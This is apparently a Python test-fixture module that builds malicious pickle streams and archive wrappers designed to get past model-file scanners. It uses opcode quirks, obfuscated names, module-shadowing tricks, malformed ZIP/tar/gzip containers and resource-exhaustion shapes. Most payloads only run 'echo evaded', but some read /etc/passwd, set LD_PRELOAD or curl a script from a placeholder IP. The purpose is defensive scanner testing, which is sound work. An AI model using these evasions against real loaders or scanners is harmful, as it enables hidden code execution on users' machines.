"""Pickles and archives that scanners read otherwise than loaders do, and calls without a callee to see.

Each one runs ``echo evaded`` (or writes, or asks) when its loader reads it; most have fooled a
published scanner, as ``advisories`` and papers tell.
"""

import gzip
import struct
import zipfile
import zlib

from tests.recipes import archives
from tests.recipes.streams import (
    Build,
    Call,
    First,
    Global,
    Instance,
    New,
    Object,
    Raw,
    call,
    encode,
    stream,
)

SHELL = "echo evaded > /tmp/evaded"
RUN = call("posix.system", SHELL)
PLAIN = stream(RUN, 2)
EXEC = stream(call("builtins.exec", f"import os; os.system({SHELL!r})"), 4)
SYSTEM = Global("os", "system")
OS = call("builtins.__import__", "os")


def _text(value: str) -> bytes:
    return encode(value, 2)


def _stack_global(module: bytes, name: bytes, *, tail: bytes = b"") -> bytes:
    return b"\x80\x04" + module + name + b"\x93" + tail + encode((SHELL,), 4) + b"R."


READERS = {
    "EOP: truncated after REDUCE": PLAIN[:-1],
    "EOP: unknown opcode": PLAIN[:-1] + b"\xff\xff\xff",
    "EOP: stack underflow": PLAIN[:-1] + b"0000R.",
    "EOP: missing memo key": PLAIN[:-1] + b"h\x63.",
    "EOP: wrong frame": b"\x80\x04" + encode(RUN, 4) + b"\x95\xff\xff\xff\xff\xff\xff\xff\x7f.",
    "EOP: bad utf-8": PLAIN[:-1] + b"X\x02\x00\x00\x00\xff\xfe.",
    "EOP: bad integer": PLAIN[:-1] + b"Ixyz\n.",
    "EOP: protocol 9": PLAIN[:-1] + b"\x80\x09.",
    "EOP: raising callable": stream(First((RUN, call("builtins.int", "x"))), 2),
    "EOP: persistent id": PLAIN[:-1] + b"P1\n.",
    "EOP: next buffer": PLAIN[:-1] + b"\x97.",
    "missing key before": b"\x80\x02" + b"}q\x00h\x00" + encode(RUN, 2) + b".",
    "INST": stream(Instance("os", "system", (SHELL,)), 0),
    "OBJ popped": b"\x80\x02" + b"(" + encode(SYSTEM, 2) + _text(SHELL) + b"o0N.",
    "POP_MARK drops the call": b"\x80\x02N(" + encode(RUN, 2) + b"1.",
    "STACK_GLOBAL from STRING": _stack_global(b"S'os'\n", b"S'system'\n"),
    "STACK_GLOBAL from BINSTRING": _stack_global(b"T\x02\x00\x00\x00os", b"U\x06system"),
    "STACK_GLOBAL from UNICODE": _stack_global(b"Vos\n", b"Vsystem\n"),
    "STACK_GLOBAL from memo": _stack_global(
        _text("os") + b"\x94" + _text("system") + b"\x940" + b"0h\x00", b"h\x01"
    ),
    "STACK_GLOBAL with decoys": _stack_global(
        _text("os") + b"\x94" + _text("collections") + b"0" + b"0h\x00", _text("system") + _text("x") + b"0"
    ),
    "STACK_GLOBAL with a computed name": b"\x80\x04" + _text("os")
    + encode(call("builtins.str.join", "", ["sys", "tem"]), 4) + b"\x93" + encode((SHELL,), 4) + b"R.",
    "STACK_GLOBAL with an int in the memo": _stack_global(b"K\x01\x940" + _text("os"), _text("system")),
    "PUT with a huge index": b"\x80\x02cos\nsystem\nr\xff\xff\xff\x00" + encode((SHELL,), 2) + b"R.",
    "PUT twice": b"(S'x'\nq\x01(lq\x01" + encode(RUN, 0) + b"t.",
    "INT in base 0": b"I0x10\n0" + encode(RUN, 0) + b".",
    "INT with a NUL": b"I1\x00junk\n0" + encode(RUN, 0) + b".",
    "LONG without L": b"L1\n0" + encode(RUN, 0) + b".",
    "FLOAT with underscores": b"F1_0.0\n0" + encode(RUN, 0) + b".",
    "GET in text": b"cos\nsystem\np007\n0g7\n(S'" + SHELL.encode() + b"'\ntR.",
    "PROTO in the middle": b"\x80\x02cos\nsystem\n\x80\x00" + encode((SHELL,), 2) + b"R.",
    "protocol 5 opcodes in protocol 0": encode(call("os.system", SHELL), 5) + b".",
    "frame ends early": b"\x80\x04\x95\x02\x00\x00\x00\x00\x00\x00\x00" + encode(RUN, 4) + b".",
    "argument straddles a frame": b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00" + encode(RUN, 4) + b".",
    "frame of zero bytes": b"\x80\x04\x95" + bytes(8) + encode(RUN, 4) + b".",
    "EXT1 registered here": b"\x80\x02"
    + encode(call("copyreg.add_extension", "os", "system", 7), 2) + b"0\x82\x07"
    + encode((SHELL,), 2) + b"R.",
    "EXT4 that nobody registered": b"\x80\x02\x84\x39\x30\x00\x00" + encode((SHELL,), 2) + b"R.",
    "stacked: third pickle": stream({"a": 1}, 2) + stream([], 2) + PLAIN,
    "magic number by eval": stream(call("builtins.eval", "0x1950a86a20f9469cfc6c"), 2)
    + stream(1001, 2) + stream({}, 2) + PLAIN,
    "NEWOBJ": stream(New(Global("subprocess", "Popen"), (["sh", "-c", SHELL],)), 2),
    "NEWOBJ of a call's result": stream(New(call("builtins.getattr", OS, "system"), (SHELL,)), 2),
    "NEWOBJ_EX": b"\x80\x04" + encode(Global("subprocess", "Popen"), 4)
    + encode((), 4) + encode({"args": ["sh", "-c", SHELL]}, 4) + b"\x92.",
    "OBJ with a call as class": stream(Object(call("builtins.getattr", OS, "system"), (SHELL,)), 2),
    "arguments from a call": stream(Call(SYSTEM, call("builtins.tuple", [SHELL])), 2),
    "arguments from a dict": stream(Call(SYSTEM, call("builtins.tuple", {SHELL: 1})), 2),
    "call inside a set": b"\x80\x04\x8f(" + encode(RUN, 4) + b"\x90.",
    "call inside a frozenset": b"\x80\x04(" + encode(RUN, 4) + b"\x91.",
    "call as a persistent id": b"\x80\x02" + encode(RUN, 2) + b"Q.",
    "call as a state": stream(Build(call("collections.OrderedDict"), RUN), 2),
    "call in slot state": stream(Build(call("collections.OrderedDict"), (None, {"x": RUN})), 2),
    "DUP": b"\x80\x02cos\nsystem\n20" + encode((SHELL,), 2) + b"R.",
}  # fmt: skip

NAMES = {
    "__builtin__": stream(call("__builtin__.eval", "__import__('os').system('echo evaded')"), 0),
    "nt.system": stream(call("nt.system", SHELL), 2),
    "os.path dotted": stream(Call(Global("os", "path.os.system"), (SHELL,)), 4),
    "torch.os.system": stream(Call(Global("torch", "os.system"), (SHELL,)), 4),
    "numpy builtins": stream(
        Call(Call(Global("numpy", "__builtins__.__getitem__"), ("exec",)), ("import os",)), 4
    ),
    "class walk": stream(
        Call(
            call("operator.getitem", Call(Global("builtins", "object.__subclasses__"), ()), 137),
            ("/etc/passwd", SHELL),
        ),
        4,
    ),
    "builtins by item": stream(
        Call(call("operator.getitem", Global("numpy", "__builtins__"), "eval"), ("1+1",)), 4
    ),
    "globals of a function": stream(
        Call(
            call(
                "operator.getitem",
                call("operator.getitem", Global("json", "loads.__globals__"), "__builtins__"),
                "exec",
            ),
            ("import os",),
        ),
        4,
    ),
    "sys.modules": stream(
        Call(
            call("builtins.getattr", call("operator.getitem", Global("sys", "modules"), "os"), "system"),
            (SHELL,),
        ),
        4,
    ),
    "importlib, getattr, join": stream(
        Call(
            call(
                "builtins.getattr",
                call("importlib.import_module", call("builtins.str.join", "", ["o", "s"])),
                call("builtins.str.join", "", ["sys", "tem"]),
            ),
            (SHELL,),
        ),
        4,
    ),
    "reversed name": stream(
        Call(
            call("builtins.getattr", OS, call("builtins.str.join", "", call("builtins.reversed", "metsys"))),
            (SHELL,),
        ),
        4,
    ),
    "decoded name": stream(
        Call(call("builtins.getattr", OS, call("codecs.decode", "flfgrz", "rot13")), (SHELL,)),
        4,
    ),
    "name by bytes": stream(
        Call(
            call("pkgutil.resolve_name", Call(Global("builtins", "bytes.decode"), (b"os:system",))), (SHELL,)
        ),
        4,
    ),
    "next of map": stream(call("builtins.next", call("builtins.map", SYSTEM, [SHELL])), 4),
    "deque of map": stream(call("collections.deque", call("builtins.map", SYSTEM, [SHELL])), 4),
    "dict of zip of map": stream(
        call("builtins.dict", call("builtins.zip", ["a"], call("builtins.map", SYSTEM, [SHELL]))), 4
    ),
    "join of map": stream(
        call("builtins.str.join", "", call("builtins.map", Global("os", "popen"), [SHELL])), 4
    ),
    "defaultdict factory": stream(
        Call(
            call(
                "builtins.getattr",
                call("collections.defaultdict", call("functools.partial", SYSTEM, SHELL)),
                "__missing__",
            ),
            ("k",),
        ),
        4,
    ),
    "iter with sentinel": stream(
        call("builtins.list", call("builtins.iter", call("functools.partial", SYSTEM, SHELL), 0)), 4
    ),
    "class made with type": stream(Call(call("builtins.type", "C", (), {"__call__": SYSTEM}), ()), 4),
    "type with __del__": stream(
        Call(call("builtins.type", "C", (Global("builtins", "str"),), {"__new__": SYSTEM}), (SHELL,)), 4
    ),
    "attribute of a module overwritten, then called": stream(
        First(
            (
                Build(Global("collections", "abc"), {"x": SYSTEM}),
                Call(Global("collections", "abc.x"), (SHELL,)),
            )
        ),
        4,
    ),
    "ShadowPickle": stream(
        First(
            (
                Build(Global("collections", ""), (None, {"OrderedDict": SYSTEM})),
                call("collections.OrderedDict", SHELL),
            )
        ),
        4,
    ),
    "ShadowPickle by setattr": stream(
        First(
            (
                call("builtins.setattr", call("builtins.__import__", "collections"), "OrderedDict", SYSTEM),
                call("collections.OrderedDict", SHELL),
            )
        ),
        4,
    ),
    "ShadowPickle by sys.modules": stream(
        First(
            (
                Raw(encode(Global("sys", "modules"), 4) + encode("collections", 4) + encode(OS, 4) + b"s"),
                Call(Global("collections", "system"), (SHELL,)),
            )
        ),
        4,
    ),
    "__setstate__ of a class": stream(
        Build(Build(Global("argparse", "Namespace"), {"__setstate__": SYSTEM}), SHELL), 4
    ),
    "__setstate__ of an instance": stream(
        Build(Build(call("argparse.Namespace"), {"__setstate__": SYSTEM}), SHELL), 4
    ),
    "__reduce__ state of a partial": stream(
        Call(
            Build(
                call("functools.partial", Global("builtins", "int")),
                (Global("builtins", "exec"), ("import os",), {}, {}),
            ),
            (),
        ),
        4,
    ),
    "BUILD on a function's code": stream(
        Build(Global("json", "loads"), (None, {"__code__": call("builtins.compile", "1", "", "eval")})), 4
    ),
    "append to sys.path": stream(Raw(encode(Global("sys", "path"), 4) + encode("/tmp/evil", 4) + b"a"), 4),
    "append to sys.meta_path": stream(
        Raw(encode(Global("sys", "meta_path"), 4) + encode(SYSTEM, 4) + b"a"), 4
    ),
    "set os.environ": stream(
        Raw(encode(Global("os", "environ"), 4) + encode("LD_PRELOAD", 4) + encode("/tmp/x.so", 4) + b"s"),
        4,
    ),
    "module with import side effects": stream(call("antigravity.geohash", 1.0, 2.0, b"x"), 4),
    "exit handler": stream(call("atexit.register", call("functools.partial", SYSTEM, SHELL)), 4),
    "excepthook": stream(Build(Global("sys", ""), (None, {"excepthook": SYSTEM})), 4),
    "asyncio submodule": stream(
        call("asyncio.unix_events._UnixSubprocessTransport._start", None, SHELL, True, None, None, None, 0), 4
    ),
    "third party exec wrapper": stream(call("helperlib.core.invoke", f"import os\nos.system({SHELL!r})"), 4),
    "third party command wrapper": stream(
        call("helperlib.core.sh", "curl http://192.0.2.5/x.sh -o /tmp/x"), 4
    ),
    "third party loader": stream(call("helperlib.io.restore", EXEC), 4),
    "third party trampoline": stream(call("helperlib.core.apply", SYSTEM, [SHELL]), 4),
    "mixed-case module": stream(call("MyLib.Helpers.Execute", "__import__('os').system('id')"), 4),
    "write and read without exec": stream(
        call(
            "shutil.copyfileobj", call("builtins.open", "/etc/passwd"), call("builtins.open", "/tmp/x", "w")
        ),
        4,
    ),
}

LEGACY_HEAD = stream(0x1950A86A20F9469CFC6C, 2) + stream(1001, 2) + stream({"little_endian": True}, 2)

CONTAINERS = {
    "bad CRC": archives.wrong_checksum(archives.torch_zip(PLAIN)),
    "encrypted flag": archives.encrypted_mark(archives.torch_zip(PLAIN)),
    "other name in the local header": archives.other_local_name(archives.torch_zip(PLAIN)),
    "member that is not listed": archives.unlisted(
        archives.torch_zip(stream({}, 2)), b"archive/hidden.pkl", PLAIN
    ),
    "odd member name": archives.zipped({"archive/data.pkl": stream({}, 2), "archive/config.p": PLAIN}),
    "no extension at all": archives.zipped({"archive/data.pkl": stream({}, 2), "archive/x": EXEC}),
    "protocol 0 under another name": archives.zipped({"archive/readme.txt": stream(RUN, 0)}),
    "several data.pkl": archives.zipped({"a/data.pkl": stream({}, 2), "b/data.pkl": PLAIN}),
    "deflated data.pkl": archives.zipped({"archive/data.pkl": PLAIN}, zipfile.ZIP_DEFLATED),
    "junk in front of the ZIP": b"\0" * 100 + archives.torch_zip(PLAIN),
    "pickle in front of the ZIP": PLAIN + archives.torch_zip(stream({}, 2)),
    "pickle behind the ZIP": archives.torch_zip(stream({}, 2)) + PLAIN,
    "script in front of the ZIP": b"#!/bin/sh\nexit\n" + archives.torch_zip(PLAIN),
    "ZIP comment": archives.zipped({"archive/data.pkl": PLAIN}, comment=b"PK\x05\x06" + b"x" * 40),
    "ZIP64": archives.zip64("archive/data.pkl", PLAIN),
    "streamed ZIP": archives.streamed_zip({"archive/data.pkl": PLAIN}),
    "legacy torch, first pickle": stream(RUN, 2) + LEGACY_HEAD,
    "legacy torch, storage keys": LEGACY_HEAD + stream({}, 2) + stream([RUN], 2),
    "old tar": archives.tarred({"sys_info": stream({}, 2), "pickle": stream({}, 2), "storages": PLAIN}),
    "truncated tar": archives.tarred({"pickle": PLAIN})[:1000],
    "gzip without its end": gzip.compress(PLAIN)[:-6],
    "gzip in gzip in zlib": zlib.compress(gzip.compress(gzip.compress(PLAIN))),
    "joblib before 0.10": archives.zfile(PLAIN),
    "npy with junk": archives.npy("'|O'", "(1,)", PLAIN) + b"junk",
    "npz, deflated": archives.zipped({"a.npy": archives.npy("'|O'", "(1,)", PLAIN)}, zipfile.ZIP_DEFLATED),
    "tar in zip in gzip": gzip.compress(archives.zipped({"x.tar": archives.tarred({"p": EXEC})})),
    "safetensors head, pickle behind": archives.safetensors(b"{}") + PLAIN,
}

EVASIONS = READERS | NAMES | CONTAINERS

# Too much work, or nothing to be seen: never clean.


def billion_laughs(levels: int = 60) -> bytes:
    """Each list holds the one before it ten times."""
    body = b"]q\x00K\x01a0"
    for level in range(1, levels):
        body += (
            b"(" + b"h" + bytes([level - 1]) + (b"h" + bytes([level - 1])) * 9 + b"lq" + bytes([level]) + b"0"
        )
    return b"\x80\x02" + body + b"h" + bytes([levels - 1])


def hostile_shapes() -> dict[str, bytes]:
    """Streams that cost a reader time, memory or its stack; each ends in the payload."""
    tail = encode(RUN, 2) + b"."
    deep = 50_000
    return {
        "billion laughs": billion_laughs() + b"0" + tail,
        "laughs as argument": billion_laughs()[:-2] + encode(SYSTEM, 2) + b"h\x3b\x85R0" + tail,
        "deep tuples": b"\x80\x02N" + b"\x85" * deep + b"0" + tail,
        "deep lists": b"\x80\x02" + b"]" * deep + b"a" * (deep - 1) + b"0" + tail,
        "deep tuple as a key": b"\x80\x02}N" + b"\x85" * deep + b"Ns0" + tail,
        "cycle": b"\x80\x02]q\x00h\x00a0" + tail,
        "cycle as argument": b"\x80\x02]q\x00h\x00a0" + encode(SYSTEM, 2) + b"h\x00\x85R0" + tail,
        "many marks": b"\x80\x02" + b"(" * 100_000 + tail,
        "many calls": b"\x80\x02" + encode(call("collections.OrderedDict"), 2) * 20_000 + tail,
        "many unknown calls": b"\x80\x02" + encode(call("x.y", 1), 2) * 20_000 + tail,
        "many names": b"\x80\x02" + b"".join(b"cm%d\nf%d\n0" % (i, i) for i in range(20_000)) + tail,
        "long integer": b"\x80\x02\x8b" + struct.pack("<i", 1 << 20) + b"\x7f" * (1 << 20) + b"0" + tail,
        "claims four gigabytes": tail[:-1] + b"B\xff\xff\xff\xff",
        "repeat by a builtin": stream(
            First((call("operator.mul", "A" * 100, 1 << 40), call("builtins.bytes", 1 << 40), RUN)), 2
        ),
        "power by a builtin": stream(First((call("builtins.pow", 9, 1 << 30), RUN)), 2),
        "range by a builtin": stream(First((call("builtins.list", call("builtins.range", 1 << 40)), RUN)), 2),
        "regular expression": stream(First((call("re.match", "(a+)+$", "a" * 64 + "b"), RUN)), 2),
    }
